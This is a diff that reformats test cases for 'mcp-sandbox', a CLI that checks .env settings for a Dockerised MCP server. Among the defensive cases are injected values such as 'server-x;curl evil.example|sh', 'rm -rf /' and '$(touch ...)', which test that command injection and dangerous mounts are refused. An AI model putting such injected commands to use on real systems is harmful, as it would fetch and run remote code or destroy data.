@@ -48,13 +48,7 @@ function sandbox(envContent?: string): Sandbox {
   const tokenSeen = join(dir, 'token-seen');
   writeFileSync(
     join(bin, 'docker'),
-    [
-      '#!/bin/sh',
-      `printf '%s\\n' "$*" >> '${marker}'`,
-      `if [ "$1" = run ]; then printf '%s' "$ACCESS_TOKEN" > '${tokenSeen}'; fi`,
-      'exit 0',
-      '',
-    ].join('\n'),
+    ['#!/bin/sh', `printf '%s\\n' "$*" >> '${marker}'`, `if [ "$1" = run ]; then printf '%s' "$ACCESS_TOKEN" > '${tokenSeen}'; fi`, 'exit 0', ''].join('\n'),
     { mode: 0o755 },
   );
   const envFile = join(dir, '.env');
@@ -130,7 +124,11 @@ const BAD_CASES: BadCase[] = [
     expect: (dir) => ['line 2: "$(" would run a command while the file is read', `${dir}`],
     setup: () => undefined,
   },
-  { name: 'MCP_ENV naming a setting (MCP_EGRESS)', env: `${OK}MCP_EGRESS=\nMCP_ENV=MCP_EGRESS\n`, expect: ['MCP_ENV lists MCP_EGRESS, which is an mcp-sandbox setting'] },
+  {
+    name: 'MCP_ENV naming a setting (MCP_EGRESS)',
+    env: `${OK}MCP_EGRESS=\nMCP_ENV=MCP_EGRESS\n`,
+    expect: ['MCP_ENV lists MCP_EGRESS, which is an mcp-sandbox setting'],
+  },
   { name: 'MCP_MEMORY=0 (no limit to Docker)', env: `${OK}MCP_MEMORY=0\n`, expect: ['MCP_MEMORY must be at least 64m'] },
   // The seccomp profile: checked before docker runs (the CLI reads the file; a broken one must not reach the engine)
   {
@@ -145,30 +143,70 @@ const BAD_CASES: BadCase[] = [
     expect: ['MCP_SECCOMP_PROFILE:', 'broken.json is not JSON'],
   },
   {
-    name: 'MCP_SECCOMP_PROFILE that allows by default', inProcess: true,
+    name: 'MCP_SECCOMP_PROFILE that allows by default',
+    inProcess: true,
     env: `${OK}MCP_SECCOMP_PROFILE=./allow-all.json\n`,
-    setup: (dir) => writeFileSync(join(dir, 'allow-all.json'), JSON.stringify({ defaultAction: 'SCMP_ACT_ALLOW', syscalls: [{ names: ['read'], action: 'SCMP_ACT_ALLOW' }] })),
+    setup: (dir) =>
+      writeFileSync(
+        join(dir, 'allow-all.json'),
+        JSON.stringify({ defaultAction: 'SCMP_ACT_ALLOW', syscalls: [{ names: ['read'], action: 'SCMP_ACT_ALLOW' }] }),
+      ),
     expect: ['has defaultAction "SCMP_ACT_ALLOW": a sandbox profile must refuse what it does not list'],
   },
-  { name: 'MCP_SECCOMP_PROFILE=unconfined', inProcess: true, env: `${OK}MCP_SECCOMP_PROFILE=unconfined\n`, expect: ['MCP_SECCOMP_PROFILE: cannot read', 'unconfined (ENOENT)'] },
   {
-    name: 'MCP_SECCOMP_PROFILE with a rule without names', inProcess: true,
+    name: 'MCP_SECCOMP_PROFILE=unconfined',
+    inProcess: true,
+    env: `${OK}MCP_SECCOMP_PROFILE=unconfined\n`,
+    expect: ['MCP_SECCOMP_PROFILE: cannot read', 'unconfined (ENOENT)'],
+  },
+  {
+    name: 'MCP_SECCOMP_PROFILE with a rule without names',
+    inProcess: true,
     env: `${OK}MCP_SECCOMP_PROFILE=./odd.json\n`,
     setup: (dir) => writeFileSync(join(dir, 'odd.json'), JSON.stringify({ defaultAction: 'SCMP_ACT_ERRNO', syscalls: [{ action: 'SCMP_ACT_ALLOW' }] })),
     expect: ['has a malformed rule at syscalls[0]'],
   },
   { name: 'MCP_INSTALL_SCRIPTS=no', command: 'build', env: `${OK}MCP_INSTALL_SCRIPTS=no\n`, expect: ['MCP_INSTALL_SCRIPTS must be true', 'or false'] },
   // MCP_SERVER (more cases in server.test.ts)
-  { name: 'MCP_SERVER with a space', env: `${OK}MCP_SERVER=pypi:mcp-server-fetch --ignore-robots-txt\n`, expect: ['MCP_SERVER may hold only', 'Put server arguments in MCP_SERVER_ARGS'] },
-  { name: 'MCP_SERVER with an unknown scheme', command: 'build', env: `${OK}MCP_SERVER=git:server\n`, expect: ["MCP_SERVER 'git:server' has the unknown scheme 'git:'"] },
-  { name: 'MCP_SERVER naming a folder that is no package', command: 'build', env: `${OK}MCP_SERVER=./empty\n`, setup: (dir) => mkdirSync(join(dir, 'empty')), expect: ['has neither package.json (npm) nor pyproject.toml or setup.py (Python)'] },
-  { name: 'MCP_SERVER and NPM_MCP both set', command: 'build', env: `${OK}MCP_SERVER=npm:a\nNPM_MCP=b\n`, expect: ['Both MCP_SERVER and NPM_MCP are set'] },
-  { name: 'MCP_SERVER_ARGS and NPM_MCP_ARGS set differently', inProcess: true, env: `${OK}MCP_SERVER_ARGS=/a\nNPM_MCP_ARGS=/b\n`, expect: ['Both MCP_SERVER_ARGS and NPM_MCP_ARGS are set'] },
-  { name: 'PIP_INDEX_URL with credentials', command: 'build', env: `${OK}PIP_INDEX_URL=https://me:secret@pypi.example.com/simple\n`, expect: ['PIP_INDEX_URL must be an index URL', 'without user:password@'] },
   {
-    name: 'a Python folder with MCP_INSTALL_SCRIPTS=false', inProcess: true,
+    name: 'MCP_SERVER with a space',
+    env: `${OK}MCP_SERVER=pypi:mcp-server-fetch --ignore-robots-txt\n`,
+    expect: ['MCP_SERVER may hold only', 'Put server arguments in MCP_SERVER_ARGS'],
+  },
+  {
+    name: 'MCP_SERVER with an unknown scheme',
+    command: 'build',
+    env: `${OK}MCP_SERVER=git:server\n`,
+    expect: ["MCP_SERVER 'git:server' has the unknown scheme 'git:'"],
+  },
+  {
+    name: 'MCP_SERVER naming a folder that is no package',
+    command: 'build',
+    env: `${OK}MCP_SERVER=./empty\n`,
+    setup: (dir) => mkdirSync(join(dir, 'empty')),
+    expect: ['has neither package.json (npm) nor pyproject.toml or setup.py (Python)'],
+  },
+  { name: 'MCP_SERVER and NPM_MCP both set', command: 'build', env: `${OK}MCP_SERVER=npm:a\nNPM_MCP=b\n`, expect: ['Both MCP_SERVER and NPM_MCP are set'] },
+  {
+    name: 'MCP_SERVER_ARGS and NPM_MCP_ARGS set differently',
+    inProcess: true,
+    env: `${OK}MCP_SERVER_ARGS=/a\nNPM_MCP_ARGS=/b\n`,
+    expect: ['Both MCP_SERVER_ARGS and NPM_MCP_ARGS are set'],
+  },
+  {
+    name: 'PIP_INDEX_URL with credentials',
+    command: 'build',
+    env: `${OK}PIP_INDEX_URL=https://me:secret@pypi.example.com/simple\n`,
+    expect: ['PIP_INDEX_URL must be an index URL', 'without user:password@'],
+  },
+  {
+    name: 'a Python folder with MCP_INSTALL_SCRIPTS=false',
+    inProcess: true,
     env: `${OK}MCP_SERVER=./py\nMCP_INSTALL_SCRIPTS=false\n`,
-    setup: (dir) => { mkdirSync(join(dir, 'py')); writeFileSync(join(dir, 'py', 'pyproject.toml'), ''); },
+    setup: (dir) => {
+      mkdirSync(join(dir, 'py'));
+      writeFileSync(join(dir, 'py', 'pyproject.toml'), '');
+    },
     expect: ['must be built', 'give a wheel (.whl) instead'],
   },
   // The CLI and the container's firewall read MCP_EGRESS alike: a name with a /prefix used to pass here and stop the container (exit 78)
@@ -177,20 +215,65 @@ const BAD_CASES: BadCase[] = [
   // TEMPLATE
   { name: 'unknown TEMPLATE', env: `${OK}TEMPLATE=apache\n`, expect: ['TEMPLATE must be one of nginx, ngrok, pinggy'] },
   // Tunnel templates: their required settings, checked by the gateway's own module
-  { name: 'TEMPLATE=ngrok without NGROK_AUTHTOKEN', env: `${OK}TEMPLATE=ngrok\n`, expect: ['TEMPLATE=ngrok: NGROK_AUTHTOKEN is not set', 'dashboard.ngrok.com'] },
-  { name: '--template pinggy without PINGGY_ACCESS_TOKEN', env: OK, extraArgs: ['--template', 'pinggy'], expect: ['TEMPLATE=pinggy: PINGGY_ACCESS_TOKEN is not set'] },
   {
-    name: 'TEMPLATE=pinggy without a bearer token (neither PINGGY_BEARER_TOKEN nor ACCESS_TOKEN)', inProcess: true,
+    name: 'TEMPLATE=ngrok without NGROK_AUTHTOKEN',
+    env: `${OK}TEMPLATE=ngrok\n`,
+    expect: ['TEMPLATE=ngrok: NGROK_AUTHTOKEN is not set', 'dashboard.ngrok.com'],
+  },
+  {
+    name: '--template pinggy without PINGGY_ACCESS_TOKEN',
+    env: OK,
+    extraArgs: ['--template', 'pinggy'],
+    expect: ['TEMPLATE=pinggy: PINGGY_ACCESS_TOKEN is not set'],
+  },
+  {
+    name: 'TEMPLATE=pinggy without a bearer token (neither PINGGY_BEARER_TOKEN nor ACCESS_TOKEN)',
+    inProcess: true,
     env: 'TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=tok3n\n',
     expect: ['PINGGY_BEARER_TOKEN (or ACCESS_TOKEN) is not set', 'npm run gen_key'],
   },
-  { name: 'PINGGY_HOST_KEY that is not a key line', inProcess: true, env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_HOST_KEY=abc\n`, expect: ['PINGGY_HOST_KEY must be a public key line'] },
-  { name: 'PINGGY_PORT out of range', inProcess: true, env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_PORT=70000\n`, expect: ['PINGGY_PORT must be a port number'] },
-  { name: 'NGROK_BASIC_AUTH with a short password', inProcess: true, env: `TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_BASIC_AUTH=me:short\n`, expect: ['NGROK_BASIC_AUTH: ngrok wants a password of 8 to 128 characters'] },
-  { name: 'TEMPLATE=ngrok without ACCESS_TOKEN or NGROK_BASIC_AUTH', inProcess: true, env: 'TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\n', expect: ['ACCESS_TOKEN must be 32 to 256 hex characters', 'or set NGROK_BASIC_AUTH'] },
-  { name: 'NGROK_OAUTH_ALLOW_EMAILS without a provider', inProcess: true, env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_OAUTH_ALLOW_EMAILS=me@example.com\n`, expect: ['need NGROK_OAUTH_PROVIDER'] },
-  { name: 'NGROK_ALLOW_CIDRS with a host name', inProcess: true, env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_ALLOW_CIDRS=example.com\n`, expect: ["NGROK_ALLOW_CIDRS entry 'example.com' is not a CIDR"] },
-  { name: 'MCP_ENV naming PINGGY_BASIC_AUTH', inProcess: true, env: `${OK}PINGGY_BASIC_AUTH=a:b\nMCP_ENV=PINGGY_BASIC_AUTH\n`, expect: ['MCP_ENV lists PINGGY_BASIC_AUTH, a gateway secret'] },
+  {
+    name: 'PINGGY_HOST_KEY that is not a key line',
+    inProcess: true,
+    env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_HOST_KEY=abc\n`,
+    expect: ['PINGGY_HOST_KEY must be a public key line'],
+  },
+  {
+    name: 'PINGGY_PORT out of range',
+    inProcess: true,
+    env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_PORT=70000\n`,
+    expect: ['PINGGY_PORT must be a port number'],
+  },
+  {
+    name: 'NGROK_BASIC_AUTH with a short password',
+    inProcess: true,
+    env: `TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_BASIC_AUTH=me:short\n`,
+    expect: ['NGROK_BASIC_AUTH: ngrok wants a password of 8 to 128 characters'],
+  },
+  {
+    name: 'TEMPLATE=ngrok without ACCESS_TOKEN or NGROK_BASIC_AUTH',
+    inProcess: true,
+    env: 'TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\n',
+    expect: ['ACCESS_TOKEN must be 32 to 256 hex characters', 'or set NGROK_BASIC_AUTH'],
+  },
+  {
+    name: 'NGROK_OAUTH_ALLOW_EMAILS without a provider',
+    inProcess: true,
+    env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_OAUTH_ALLOW_EMAILS=me@example.com\n`,
+    expect: ['need NGROK_OAUTH_PROVIDER'],
+  },
+  {
+    name: 'NGROK_ALLOW_CIDRS with a host name',
+    inProcess: true,
+    env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_ALLOW_CIDRS=example.com\n`,
+    expect: ["NGROK_ALLOW_CIDRS entry 'example.com' is not a CIDR"],
+  },
+  {
+    name: 'MCP_ENV naming PINGGY_BASIC_AUTH',
+    inProcess: true,
+    env: `${OK}PINGGY_BASIC_AUTH=a:b\nMCP_ENV=PINGGY_BASIC_AUTH\n`,
+    expect: ['MCP_ENV lists PINGGY_BASIC_AUTH, a gateway secret'],
+  },
   // NPM_MCP
   { name: 'NPM_MCP with a space', env: `${OK}NPM_MCP=@scope/server --port 3000\n`, expect: [NPM_MCP_UNSAFE, 'Put server arguments in MCP_SERVER_ARGS'] },
   { name: 'NPM_MCP with ;', env: `${OK}NPM_MCP=server-x;curl evil.example|sh\n`, expect: [NPM_MCP_UNSAFE, 'MCP_SERVER_ARGS'] },
@@ -199,20 +282,27 @@ const BAD_CASES: BadCase[] = [
   { name: 'NPM_MCP with a newline', env: `${OK}NPM_MCP="server-x\\nrm -rf /"\n`, expect: [NPM_MCP_UNSAFE] },
   { name: 'NPM_MCP with a quote', inProcess: true, env: `${OK}NPM_MCP=server-x"y\n`, expect: [NPM_MCP_UNSAFE] },
   { name: 'NPM_MCP empty', inProcess: true, env: `${OK}NPM_MCP=\n`, expect: ['NPM_MCP is empty: name an npm package'] },
-  { name: 'NPM_MCP not a package spec', inProcess: true, env: `${OK}NPM_MCP=Server_X\n`, expect: ["NPM_MCP 'npm:Server_X': 'Server_X' is not an npm package name"] },
+  {
+    name: 'NPM_MCP not a package spec',
+    inProcess: true,
+    env: `${OK}NPM_MCP=Server_X\n`,
+    expect: ["NPM_MCP 'npm:Server_X': 'Server_X' is not an npm package name"],
+  },
   {
     name: 'NPM_MCP pointing at a missing local folder',
     env: `${OK}NPM_MCP=./missing-server\n`,
     expect: (dir) => [`NPM_MCP names ${join(dir, 'missing-server')}, which does not exist`, 'fix the path'],
   },
   {
-    name: 'NPM_MCP pointing at a folder without package.json', inProcess: true,
+    name: 'NPM_MCP pointing at a folder without package.json',
+    inProcess: true,
     env: `${OK}NPM_MCP=./not-a-package\n`,
     setup: (dir) => mkdirSync(join(dir, 'not-a-package')),
     expect: (dir) => [`NPM_MCP names the folder ${join(dir, 'not-a-package')}, which has no package.json`],
   },
   {
-    name: 'NPM_MCP pointing at a file that is not a .tgz', inProcess: true,
+    name: 'NPM_MCP pointing at a file that is not a .tgz',
+    inProcess: true,
     env: `${OK}NPM_MCP=./server.zip\n`,
     setup: (dir) => writeFileSync(join(dir, 'server.zip'), 'zip'),
     expect: ['NPM_MCP names the file', 'only a .tgz made by `npm pack` is accepted'],
@@ -221,16 +311,33 @@ const BAD_CASES: BadCase[] = [
   // ACCESS_TOKEN
   { name: 'missing ACCESS_TOKEN', env: 'NAME=mcp-test\n', expect: ['ACCESS_TOKEN is missing', GEN_KEY] },
   { name: 'empty ACCESS_TOKEN', inProcess: true, env: 'ACCESS_TOKEN=\n', expect: ['ACCESS_TOKEN is missing', GEN_KEY] },
-  { name: 'the placeholder secret_key__please_change', env: 'ACCESS_TOKEN=secret_key__please_change\n', expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY] },
+  {
+    name: 'the placeholder secret_key__please_change',
+    env: 'ACCESS_TOKEN=secret_key__please_change\n',
+    expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY],
+  },
   { name: 'a 31-hex-char token', env: `ACCESS_TOKEN=${'a'.repeat(31)}\n`, expect: ['ACCESS_TOKEN is 31 hex characters, fewer than 32', GEN_KEY] },
   { name: 'a non-hex token', env: `ACCESS_TOKEN=${'z'.repeat(64)}\n`, expect: ['ACCESS_TOKEN must be hexadecimal', GEN_KEY] },
-  { name: 'a token over 256 hex chars', inProcess: true, env: `ACCESS_TOKEN=${'a'.repeat(258)}\n`, expect: ['ACCESS_TOKEN is longer than 256 hex characters', GEN_KEY] },
-  { name: 'NGINX_ACCESS_TOKEN alias with a short value', env: 'NGINX_ACCESS_TOKEN=abcd1234\n', expect: ['ACCESS_TOKEN is 8 hex characters, fewer than 32', GEN_KEY] },
+  {
+    name: 'a token over 256 hex chars',
+    inProcess: true,
+    env: `ACCESS_TOKEN=${'a'.repeat(258)}\n`,
+    expect: ['ACCESS_TOKEN is longer than 256 hex characters', GEN_KEY],
+  },
+  {
+    name: 'NGINX_ACCESS_TOKEN alias with a short value',
+    env: 'NGINX_ACCESS_TOKEN=abcd1234\n',
+    expect: ['ACCESS_TOKEN is 8 hex characters, fewer than 32', GEN_KEY],
+  },
   // HOST_PORT, BIND_ADDRESS, NAME
   { name: 'HOST_PORT=0', env: `${OK}HOST_PORT=0\n`, expect: [PORT] },
   { name: 'HOST_PORT=70000', env: `${OK}HOST_PORT=70000\n`, expect: [PORT] },
   { name: 'HOST_PORT=abc', env: `${OK}HOST_PORT=abc\n`, expect: [PORT] },
-  { name: 'BIND_ADDRESS=localhost', env: `${OK}BIND_ADDRESS=localhost\n`, expect: ['BIND_ADDRESS must be an IP address', '127.0.0.1 keeps the server on this machine'] },
+  {
+    name: 'BIND_ADDRESS=localhost',
+    env: `${OK}BIND_ADDRESS=localhost\n`,
+    expect: ['BIND_ADDRESS must be an IP address', '127.0.0.1 keeps the server on this machine'],
+  },
   { name: 'BIND_ADDRESS=256.1.1.1', inProcess: true, env: `${OK}BIND_ADDRESS=256.1.1.1\n`, expect: ['BIND_ADDRESS must be an IP address'] },
   { name: 'NAME in uppercase', env: `${OK}NAME=MyServer\n`, expect: ['NAME must be lowercase letters, digits'] },
   { name: 'NAME with a space', env: `${OK}NAME="my server"\n`, expect: ['NAME must be lowercase letters, digits'] },
@@ -263,11 +370,24 @@ const BAD_CASES: BadCase[] = [
   { name: 'bad MCP_MEMORY', env: `${OK}MCP_MEMORY=lots\n`, expect: ['MCP_MEMORY must be a size such as 512m or 1g'] },
   { name: 'MCP_CPUS=0', inProcess: true, env: `${OK}MCP_CPUS=0\n`, expect: ['MCP_CPUS must be a number of CPUs above 0'] },
   { name: 'MCP_PIDS below 32', inProcess: true, env: `${OK}MCP_PIDS=8\n`, expect: ['MCP_PIDS must be a whole number of at least 32'] },
-  { name: 'MCP_SESSION_IDLE not a duration', env: `${OK}MCP_SESSION_IDLE=soon\n`, expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h, such as 300, 300s, 5m or 1h'] },
+  {
+    name: 'MCP_SESSION_IDLE not a duration',
+    env: `${OK}MCP_SESSION_IDLE=soon\n`,
+    expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h, such as 300, 300s, 5m or 1h'],
+  },
   { name: 'MCP_SESSION_IDLE below 10 s', inProcess: true, env: `${OK}MCP_SESSION_IDLE=5s\n`, expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h'] },
   { name: 'MCP_SESSION_IDLE above 24 h', inProcess: true, env: `${OK}MCP_SESSION_IDLE=25h\n`, expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h'] },
-  { name: 'MCP_MAX_SESSIONS=0', env: `${OK}MCP_MAX_SESSIONS=0\n`, expect: ['MCP_MAX_SESSIONS must be a whole number from 1 to 1024', 'leave it empty for a default sized to MCP_MEMORY and MCP_PIDS'] },
-  { name: 'MCP_MAX_SESSIONS not a number', inProcess: true, env: `${OK}MCP_MAX_SESSIONS=many\n`, expect: ['MCP_MAX_SESSIONS must be a whole number from 1 to 1024'] },
+  {
+    name: 'MCP_MAX_SESSIONS=0',
+    env: `${OK}MCP_MAX_SESSIONS=0\n`,
+    expect: ['MCP_MAX_SESSIONS must be a whole number from 1 to 1024', 'leave it empty for a default sized to MCP_MEMORY and MCP_PIDS'],
+  },
+  {
+    name: 'MCP_MAX_SESSIONS not a number',
+    inProcess: true,
+    env: `${OK}MCP_MAX_SESSIONS=many\n`,
+    expect: ['MCP_MAX_SESSIONS must be a whole number from 1 to 1024'],
+  },
   {
     name: 'SUPERGATEWAY_EXTRA_ARGS set (no longer read)',
     env: `${OK}SUPERGATEWAY_EXTRA_ARGS=--no-stateful\n`,
@@ -275,20 +395,35 @@ const BAD_CASES: BadCase[] = [
   },
   { name: 'bad NODE_VERSION', inProcess: true, env: `${OK}NODE_VERSION=latest\n`, expect: ['NODE_VERSION must be a Node.js version'] },
   { name: 'bad ALLOWED_ORIGINS', inProcess: true, env: `${OK}ALLOWED_ORIGINS=*\n`, expect: ['ALLOWED_ORIGINS must be a comma-separated list of origins'] },
-  { name: 'bad TLS_HOSTNAMES', inProcess: true, env: `${OK}TLS_HOSTNAMES=my-host\n`, expect: ['TLS_HOSTNAMES must be a comma-separated list of DNS:name or IP:address'] },
+  {
+    name: 'bad TLS_HOSTNAMES',
+    inProcess: true,
+    env: `${OK}TLS_HOSTNAMES=my-host\n`,
+    expect: ['TLS_HOSTNAMES must be a comma-separated list of DNS:name or IP:address'],
+  },
   // MCP_MOUNTS
   {
     name: 'MCP_MOUNTS of /',
     env: `${OK}MCP_MOUNTS=/:/host\n`,
     expect: ["MCP_MOUNTS entry '/:/host' is refused: it is the whole host filesystem", '--allow-dangerous-mounts'],
   },
-  { name: 'MCP_MOUNTS of the home folder', inProcess: true, env: `${OK}MCP_MOUNTS=~/:/home-data\n`, expect: ['MCP_MOUNTS entry', 'your whole home folder', '--allow-dangerous-mounts'] },
+  {
+    name: 'MCP_MOUNTS of the home folder',
+    inProcess: true,
+    env: `${OK}MCP_MOUNTS=~/:/home-data\n`,
+    expect: ['MCP_MOUNTS entry', 'your whole home folder', '--allow-dangerous-mounts'],
+  },
   {
     name: 'MCP_MOUNTS of the project folder',
     env: `${OK}MCP_MOUNTS=${repoRoot}:/src\n`,
     expect: ['MCP_MOUNTS entry', 'the mcp-sandbox project folder', '--allow-dangerous-mounts'],
   },
-  { name: 'MCP_MOUNTS of a folder holding the Docker socket path', inProcess: true, env: `${OK}MCP_MOUNTS=/run:/hostrun\n`, expect: ['MCP_MOUNTS entry', 'Docker socket'] },
+  {
+    name: 'MCP_MOUNTS of a folder holding the Docker socket path',
+    inProcess: true,
+    env: `${OK}MCP_MOUNTS=/run:/hostrun\n`,
+    expect: ['MCP_MOUNTS entry', 'Docker socket'],
+  },
   {
     name: 'MCP_MOUNTS of a missing path',
     env: `${OK}MCP_MOUNTS=./nope:/workspace\n`,
@@ -301,16 +436,27 @@ const BAD_CASES: BadCase[] = [
     expect: ["MCP_MOUNTS entry './data:/workspace:rx': the mode must be ro or rw, not 'rx'"],
   },
   {
-    name: 'MCP_MOUNTS onto a sandbox folder', inProcess: true,
+    name: 'MCP_MOUNTS onto a sandbox folder',
+    inProcess: true,
     env: `${OK}MCP_MOUNTS=./data:/opt/sandbox\n`,
     setup: (dir) => mkdirSync(join(dir, 'data')),
     expect: ['MCP_MOUNTS entry', '/opt/sandbox belongs to the sandbox'],
   },
-  { name: 'MCP_MOUNTS without a container path', inProcess: true, env: `${OK}MCP_MOUNTS=./data\n`, expect: ["MCP_MOUNTS entry './data' must be host:container"] },
-  // MCP_ENV
-  { name: 'MCP_ENV naming ACCESS_TOKEN', env: `${OK}MCP_ENV=ACCESS_TOKEN\n`, expect: ['MCP_ENV lists ACCESS_TOKEN, a gateway secret', 'Remove it from MCP_ENV'] },
   {
-    name: 'MCP_ENV naming NGINX_ACCESS_TOKEN', inProcess: true,
+    name: 'MCP_MOUNTS without a container path',
+    inProcess: true,
+    env: `${OK}MCP_MOUNTS=./data\n`,
+    expect: ["MCP_MOUNTS entry './data' must be host:container"],
+  },
+  // MCP_ENV
+  {
+    name: 'MCP_ENV naming ACCESS_TOKEN',
+    env: `${OK}MCP_ENV=ACCESS_TOKEN\n`,
+    expect: ['MCP_ENV lists ACCESS_TOKEN, a gateway secret', 'Remove it from MCP_ENV'],
+  },
+  {
+    name: 'MCP_ENV naming NGINX_ACCESS_TOKEN',
+    inProcess: true,
     env: `NGINX_ACCESS_TOKEN=${TOKEN}\nMCP_ENV=GH,NGINX_ACCESS_TOKEN\nGH=x\n`,
     expect: ['MCP_ENV lists NGINX_ACCESS_TOKEN, a gateway secret', 'Remove it from MCP_ENV'],
   },
@@ -323,7 +469,8 @@ const BAD_CASES: BadCase[] = [
   // Several at once: the per-variable problems are reported together (the token
   // check runs once every variable parses, so it is not among them here).
   {
-    name: 'several bad variables at once', inProcess: true,
+    name: 'several bad variables at once',
+    inProcess: true,
     env: `${OK}HOST_PORT=0\nLOG_LEVEL=loud\nNAME=Bad Name\n`,
     expect: [PORT, 'LOG_LEVEL must be info', 'NAME must be lowercase'],
   },
@@ -332,7 +479,11 @@ const BAD_CASES: BadCase[] = [
   { name: 'start with an unknown option', env: OK, extraArgs: ['--bogus'], expect: ["unknown option '--bogus'"] },
   // build validates the same .env before staging or running anything
   // A build needs no runtime secret (see 'build needs no runtime secret' below); start checks them.
-  { name: 'start: the placeholder token', env: 'ACCESS_TOKEN=secret_key__please_change\n', expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY] },
+  {
+    name: 'start: the placeholder token',
+    env: 'ACCESS_TOKEN=secret_key__please_change\n',
+    expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY],
+  },
   { name: 'build: NPM_MCP with ;', command: 'build', env: `${OK}NPM_MCP=a;b\n`, expect: [NPM_MCP_UNSAFE] },
   {
     name: 'build: NPM_MCP pointing at a missing local folder',
@@ -410,7 +561,10 @@ describe('valid settings', { concurrency: 4 }, () => {
       assert.ok(built.stdout.includes(` --build-arg TEMPLATE=${template} `), built.stdout);
       const started = await runCli(['start', '--env-file', box.envFile, '--dry-run'], box);
       assert.equal(started.code, 2, `${template}: ${started.stdout}`);
-      assert.match(started.stderr, template === 'nginx' ? /ACCESS_TOKEN is missing/ : new RegExp(`${template.toUpperCase()}_(AUTHTOKEN|ACCESS_TOKEN) is not set`));
+      assert.match(
+        started.stderr,
+        template === 'nginx' ? /ACCESS_TOKEN is missing/ : new RegExp(`${template.toUpperCase()}_(AUTHTOKEN|ACCESS_TOKEN) is not set`),
+      );
       assert.equal(existsSync(box.marker), false, 'no docker command ran');
     }
   });
@@ -539,11 +693,14 @@ describe('reading .env runs nothing', () => {
     const witness = join(dir, 'command-ran');
     const envFile = join(dir, '.env');
     writeFileSync(envFile, `${OK}NPM_MCP_ARGS=$(touch ${witness})\n`);
-    assert.throws(() => loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }), (error: unknown) => {
-      assert.ok(error instanceof UsageError);
-      assert.match(error.message, /line 2: "\$\(" would run a command/);
-      return true;
-    });
+    assert.throws(
+      () => loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }),
+      (error: unknown) => {
+        assert.ok(error instanceof UsageError);
+        assert.match(error.message, /line 2: "\$\(" would run a command/);
+        return true;
+      },
+    );
     assert.equal(existsSync(witness), false, 'dotenvx ran the command');
     writeFileSync(envFile, `${OK}NPM_MCP_ARGS='$(touch ${witness})'\n`);
     assert.equal(loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }).MCP_SERVER_ARGS, `$(touch ${witness})`);
